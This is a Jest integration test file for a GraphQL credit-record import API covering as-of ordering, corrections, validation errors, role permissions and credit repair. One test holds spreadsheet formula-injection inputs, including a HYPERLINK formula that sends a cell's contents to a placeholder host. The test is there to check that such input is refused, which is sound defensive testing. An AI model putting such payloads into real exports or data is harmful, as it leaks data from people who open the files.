/**
 * R5 — credit data: importCreditRecords all or nothing, a profile that only moves forward in as-of, a
 * same-day correction that replaces that day's record, the history kept, and credit repair.
 */
import { startTestApp, TestApp } from '../support/harness';
import {
  daysFromToday, IMPORT_CREDIT, importCredit, institutionWithToken, newCreditCode, publishBatch, registeredEnterprise, rowCount, staff,
  WHITELIST_PAGE, withWrongCheck,
} from './fixtures';

let app: TestApp;
let authority: string;
beforeAll(async () => {
  app = await startTestApp();
  authority = staff(app).authority;
});
afterAll(async () => {
  await app?.close();
});

const PROFILE = `query($code: String!) { enterprise(creditCode: $code) { creditCode name claimed profileKnown creditProfile {
  asOf source rating taxGrade firstLoan detailVisible overdueCount12m currentOverdueAmount socialSecurityMonths
  activeDishonesty { kind listedOn repairedOn active } dishonesty { kind listedOn repairedOn active }
  history { source asOf rating taxGrade overdueCount12m currentOverdueAmount socialSecurityMonths hadBankLoan dishonesty { kind active } }
} } }`;

const WRITTEN_BY_IMPORT = ['credit_record', 'credit_profile', 'credit_import', 'enterprise'];
const counts = () => Promise.all(WRITTEN_BY_IMPORT.map((t) => rowCount(app, t)));
const codes = (errors: { field: string[]; code: string }[]) => errors.map((e) => `${e.field.join('.')}:${e.code}`);

const figures = { rating: 'AA', taxGrade: 'A', overdueCount12m: 0, currentOverdueAmount: '0.00', socialSecurityMonths: 36, hadBankLoan: true, dishonesty: [] };

describe('importCreditRecords (R5)', () => {
  it('refuses a source or a name that would run as a spreadsheet formula, or a name with NUL, writing nothing', async () => {
    const before = await counts();
    const res = await app.gql(
      IMPORT_CREDIT,
      {
        input: {
          source: '=HYPERLINK("http://x.example/?"&A1)',
          asOf: '2025-01-31',
          records: [
            { creditCode: newCreditCode(), name: '@SUM(1)', rating: 'A' },
            { creditCode: newCreditCode(), name: '丙公司', rating: 'A' },
          ],
        },
      },
      { token: authority },
    );
    expect(res.errors).toBeUndefined();
    expect(codes(res.data.importCreditRecords.userErrors)).toEqual(['input.source:FORMULA_TEXT', 'input.records.0.name:FORMULA_TEXT']);
    expect(await counts()).toEqual(before);
  });

  it('imports records: a known firm gets a profile, an unknown code becomes an unclaimed enterprise', async () => {
    const firm = await registeredEnterprise(app);
    const unknown = newCreditCode('330106');
    const importsBefore = await rowCount(app, 'credit_import');
    const res = await app.gql(
      IMPORT_CREDIT,
      {
        input: {
          source: 'PBOC-CRC',
          asOf: '2025-01-31',
          records: [
            { creditCode: firm.input.creditCode, ...figures, currentOverdueAmount: '1234.50', hadBankLoan: false },
            { creditCode: unknown.toLowerCase(), name: '杭州某某科技有限公司', rating: 'BBB' },
          ],
        },
      },
      { token: authority },
    );
    expect(res.errors).toBeUndefined();
    expect(res.data.importCreditRecords).toEqual({ imported: 2, skipped: 0, userErrors: [] });
    expect(await rowCount(app, 'credit_import')).toBe(importsBefore + 1);

    const own = await app.gql(PROFILE, { code: firm.input.creditCode }, { token: firm.token });
    expect(own.data.enterprise.creditProfile).toEqual({
      asOf: '2025-01-31',
      source: 'PBOC-CRC',
      rating: 'AA',
      taxGrade: 'A',
      firstLoan: true,
      detailVisible: true,
      overdueCount12m: 0,
      currentOverdueAmount: '1234.50',
      socialSecurityMonths: 36,
      activeDishonesty: [],
      dishonesty: [],
      history: [{ source: 'PBOC-CRC', asOf: '2025-01-31', rating: 'AA', taxGrade: 'A', overdueCount12m: 0, currentOverdueAmount: '1234.50', socialSecurityMonths: 36, hadBankLoan: false, dishonesty: [] }],
    });

    const created = await app.gql(PROFILE, { code: unknown }, { token: authority });
    expect(created.data.enterprise).toMatchObject({ creditCode: unknown, name: '杭州某某科技有限公司', claimed: false, profileKnown: false, creditProfile: { rating: 'BBB', taxGrade: null, firstLoan: false } });
  });

  describe('the profile follows the newest as-of date, and the history keeps every record', () => {
    let firm: Awaited<ReturnType<typeof registeredEnterprise>>;
    const own = async () => (await app.gql(PROFILE, { code: firm.input.creditCode }, { token: firm.token })).data.enterprise.creditProfile;
    beforeAll(async () => {
      firm = await registeredEnterprise(app);
      await importCredit(app, authority, { source: 'PBOC-CRC', asOf: '2025-03-31', records: [{ creditCode: firm.input.creditCode, ...figures, rating: 'A', overdueCount12m: 1 }] });
    });

    it('an older as-of never overwrites the profile: it is skipped, and kept in the history', async () => {
      const res = await app.gql(IMPORT_CREDIT, { input: { source: 'PBOC-CRC', asOf: '2024-12-31', records: [{ creditCode: firm.input.creditCode, rating: 'CCC', overdueCount12m: 9 }] } }, { token: authority });
      expect(res.data.importCreditRecords).toEqual({ imported: 0, skipped: 1, userErrors: [] });
      const profile = await own();
      expect(profile).toMatchObject({ asOf: '2025-03-31', rating: 'A', overdueCount12m: 1 });
      expect(profile.history.map((r: { asOf: string; rating: string }) => [r.asOf, r.rating])).toEqual([['2025-03-31', 'A'], ['2024-12-31', 'CCC']]);
    });

    it('the same as-of replaces that day\'s record (a same-day correction): one record, the new figures', async () => {
      const res = await app.gql(
        IMPORT_CREDIT,
        { input: { source: 'PBOC-CRC', asOf: '2025-03-31', records: [{ creditCode: firm.input.creditCode, rating: 'AA', taxGrade: 'B', overdueCount12m: 0 }] } },
        { token: authority },
      );
      expect(res.data.importCreditRecords).toEqual({ imported: 1, skipped: 0, userErrors: [] });
      const profile = await own();
      expect(profile).toMatchObject({ asOf: '2025-03-31', rating: 'AA', taxGrade: 'B', overdueCount12m: 0, socialSecurityMonths: null });
      const sameDay = profile.history.filter((r: { source: string; asOf: string }) => r.source === 'PBOC-CRC' && r.asOf === '2025-03-31');
      expect(sameDay).toEqual([{ source: 'PBOC-CRC', asOf: '2025-03-31', rating: 'AA', taxGrade: 'B', overdueCount12m: 0, currentOverdueAmount: null, socialSecurityMonths: null, hadBankLoan: null, dishonesty: [] }]);
      expect(profile.history).toHaveLength(2);
    });

    it('a newer as-of becomes the profile; the history grows, newest first', async () => {
      const res = await app.gql(IMPORT_CREDIT, { input: { source: 'TAX-BUREAU', asOf: '2025-06-30', records: [{ creditCode: firm.input.creditCode, taxGrade: 'M' }] } }, { token: authority });
      expect(res.data.importCreditRecords).toEqual({ imported: 1, skipped: 0, userErrors: [] });
      const profile = await own();
      expect(profile).toMatchObject({ asOf: '2025-06-30', source: 'TAX-BUREAU', taxGrade: 'M', rating: null });
      expect(profile.history.map((r: { source: string; asOf: string }) => `${r.source}@${r.asOf}`)).toEqual(['TAX-BUREAU@2025-06-30', 'PBOC-CRC@2025-03-31', 'PBOC-CRC@2024-12-31']);
    });

    it('counts mixed records: newer ones imported, older ones skipped', async () => {
      const fresh = await registeredEnterprise(app);
      const res = await app.gql(
        IMPORT_CREDIT,
        { input: { source: 'PBOC-CRC', asOf: '2025-05-31', records: [{ creditCode: firm.input.creditCode, rating: 'C' }, { creditCode: fresh.input.creditCode, rating: 'B' }] } },
        { token: authority },
      );
      expect(res.data.importCreditRecords).toEqual({ imported: 1, skipped: 1, userErrors: [] });
      const [row] = await app.dataSource.query(`SELECT record_count, imported, skipped FROM credit_import WHERE as_of = '2025-05-31'`);
      expect(row).toEqual({ record_count: 2, imported: 1, skipped: 1 });
    });
  });

  describe('when the import is refused, nothing is written', () => {
    const asOf = '2025-01-31';
    const record = (overrides: Record<string, unknown> = {}) => ({ creditCode: newCreditCode(), name: '拒绝导入企业', rating: 'A', ...overrides });

    // Every row has four elements: jest would take a missing fourth argument for a done callback.
    it.each<[string, () => Record<string, unknown>, string[], Record<string, unknown> | null]>([
      ['an as-of date in the future', () => ({ source: 'PBOC-CRC', asOf: daysFromToday(1), records: [record()] }), ['input.asOf:DATE_IN_FUTURE'], { today: daysFromToday(0) }],
      ['a wrong check character', () => ({ source: 'PBOC-CRC', asOf, records: [record(), record({ creditCode: withWrongCheck(newCreditCode()) })] }), ['input.records.1.creditCode:INVALID_CREDIT_CODE'], { position: 18 }],
      [
        'a repeated credit code',
        () => {
          const code = newCreditCode();
          return { source: 'PBOC-CRC', asOf, records: [record({ creditCode: code }), record(), record({ creditCode: ` ${code.toLowerCase()}` })] };
        },
        ['input.records.2.creditCode:DUPLICATE_ROW'],
        { first: 0 },
      ],
      ['a record without figures', () => ({ source: 'PBOC-CRC', asOf, records: [record(), { creditCode: newCreditCode(), name: '空记录' }] }), ['input.records.1:EMPTY_RECORD'], null],
      [
        'a listing after the as-of date',
        () => ({ source: 'PBOC-CRC', asOf, records: [record({ dishonesty: [{ kind: 'ABNORMAL_OPERATION', listedOn: '2025-02-01' }] })] }),
        ['input.records.0.dishonesty.0.listedOn:LISTED_AFTER_AS_OF'],
        { listedOn: '2025-02-01', asOf },
      ],
      [
        'a repair before the listing',
        () => ({ source: 'PBOC-CRC', asOf, records: [record({ dishonesty: [{ kind: 'MAJOR_TAX_VIOLATION', listedOn: '2024-06-01', repairedOn: '2024-05-31' }] })] }),
        ['input.records.0.dishonesty.0.repairedOn:REPAIRED_BEFORE_LISTED'],
        { listedOn: '2024-06-01', repairedOn: '2024-05-31' },
      ],
      [
        'a repair after the as-of date',
        () => ({ source: 'PBOC-CRC', asOf, records: [record({ dishonesty: [{ kind: 'DISHONEST_JUDGMENT_DEBTOR', listedOn: '2024-06-01', repairedOn: '2025-02-01' }] })] }),
        ['input.records.0.dishonesty.0.repairedOn:REPAIRED_AFTER_AS_OF'],
        { repairedOn: '2025-02-01', asOf },
      ],
      ['an overdue count of -1', () => ({ source: 'PBOC-CRC', asOf, records: [record({ overdueCount12m: -1 })] }), ['input.records.0.overdueCount12m:OUT_OF_RANGE'], { min: 0 }],
    ])('%s', async (_what, input, expected, params) => {
      const before = await counts();
      const res = await app.gql(IMPORT_CREDIT, { input: input() }, { token: authority });
      expect(res.errors).toBeUndefined();
      const payload = res.data.importCreditRecords;
      expect(codes(payload.userErrors)).toEqual(expected);
      expect([payload.imported, payload.skipped]).toEqual([0, 0]);
      if (params) expect(payload.userErrors[0].params).toMatchObject(params);
      expect(await counts()).toEqual(before);
    });

    it('reports every bad record of one import at once', async () => {
      const res = await app.gql(
        IMPORT_CREDIT,
        { input: { source: 'PBOC-CRC', asOf, records: [record(), { creditCode: newCreditCode() }, record({ creditCode: '123' }), record({ dishonesty: [{ kind: 'ABNORMAL_OPERATION', listedOn: '2025-03-01' }] })] } },
        { token: authority },
      );
      expect(codes(res.data.importCreditRecords.userErrors).sort()).toEqual([
        'input.records.1:EMPTY_RECORD',
        'input.records.2.creditCode:INVALID_CREDIT_CODE',
        'input.records.3.dishonesty.0.listedOn:LISTED_AFTER_AS_OF',
      ]);
    });

    it('words the refusals in English on request', async () => {
      const res = await app.gql(
        IMPORT_CREDIT,
        { input: { source: 'PBOC-CRC', asOf: '2025-01-31', records: [record({ dishonesty: [{ kind: 'ABNORMAL_OPERATION', listedOn: '2024-06-01', repairedOn: '2024-05-31' }] })] } },
        { token: authority, lang: 'en' },
      );
      expect(res.data.importCreditRecords.userErrors.map((e: { message: string }) => e.message)).toEqual(['Repaired on 2024-05-31, before it was listed on 2024-06-01']);
    });

    it.each([
      ['BANK', async () => (await institutionWithToken(app, 'BANK', '导入越权银行')).token],
      ['ANALYST', async () => staff(app).analyst],
      ['ENTERPRISE', async () => (await registeredEnterprise(app)).token],
    ])('is for authorities and admins only: %s → FORBIDDEN', async (_role, token) => {
      const t = await token();
      const before = await counts();
      const res = await app.gql(IMPORT_CREDIT, { input: { source: 'PBOC-CRC', asOf, records: [record()] } }, { token: t });
      expect(res.errors?.[0].extensions?.code).toBe('FORBIDDEN');
      expect(await counts()).toEqual(before);
    });

    it('admins may import', async () => {
      await expect(importCredit(app, staff(app).admin, { source: 'PBOC-CRC', asOf, records: [record()] })).resolves.toEqual({ imported: 1, skipped: 0 });
    });
  });

  describe('credit repair (信用修复)', () => {
    it('a later import with repairedOn makes the listing inactive, and the noActiveDishonesty filter matches again', async () => {
      const firm = await registeredEnterprise(app);
      const code = firm.input.creditCode;
      const whitelistId = await publishBatch(app, authority, '信用修复白名单', '1', [{ creditCode: code, name: firm.input.name, tier: 'SPECIALIZED_SME', validFrom: '2024-01-01', validTo: daysFromToday(365) }]);
      const bank = (await institutionWithToken(app, 'BANK', '信用修复银行')).token;
      const clean = async () => (await app.gql(WHITELIST_PAGE, { filter: { whitelistId, noActiveDishonesty: true } }, { token: bank })).data.whitelist.totalCount;
      const listing = { kind: 'DISHONEST_JUDGMENT_DEBTOR', listedOn: '2024-11-20' };

      await importCredit(app, authority, { source: 'PBOC-CRC', asOf: '2025-01-10', records: [{ creditCode: code, rating: 'BB', dishonesty: [listing] }] });
      const listed = await app.gql(PROFILE, { code }, { token: bank });
      expect(listed.data.enterprise.creditProfile.activeDishonesty).toEqual([{ ...listing, repairedOn: null, active: true }]);
      expect(await clean()).toBe(0);

      await importCredit(app, authority, { source: 'PBOC-CRC', asOf: '2025-02-10', records: [{ creditCode: code, rating: 'BB', dishonesty: [{ ...listing, repairedOn: '2025-02-01' }] }] });
      const repaired = await app.gql(PROFILE, { code }, { token: bank });
      expect(repaired.data.enterprise.creditProfile.activeDishonesty).toEqual([]);
      expect(await clean()).toBe(1);
      // The enterprise itself still sees the repaired listing, and the history shows both states.
      const own = await app.gql(PROFILE, { code }, { token: firm.token });
      expect(own.data.enterprise.creditProfile.dishonesty).toEqual([{ ...listing, repairedOn: '2025-02-01', active: false }]);
      expect(own.data.enterprise.creditProfile.history.map((r: { asOf: string; dishonesty: { active: boolean }[] }) => [r.asOf, r.dishonesty.map((d) => d.active)])).toEqual([
        ['2025-02-10', [false]],
        ['2025-01-10', [true]],
      ]);
    });
  });
});
